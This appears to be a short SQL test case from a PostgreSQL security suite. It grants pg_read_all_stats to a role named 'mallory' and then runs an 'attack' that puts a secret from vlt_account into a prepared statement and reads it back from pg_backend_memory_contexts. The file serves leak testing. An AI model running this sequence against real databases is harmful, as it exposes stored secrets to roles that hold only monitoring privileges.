-- Asks what the server's memory is used for, which shows the texts of statements.
-- wants: read
-- setup:
GRANT pg_read_all_stats TO mallory;
-- attack:
DO $$ BEGIN EXECUTE format('PREPARE p AS SELECT %L::text', (SELECT secret FROM vlt_account LIMIT 1)); END $$;
SELECT ident FROM pg_backend_memory_contexts;
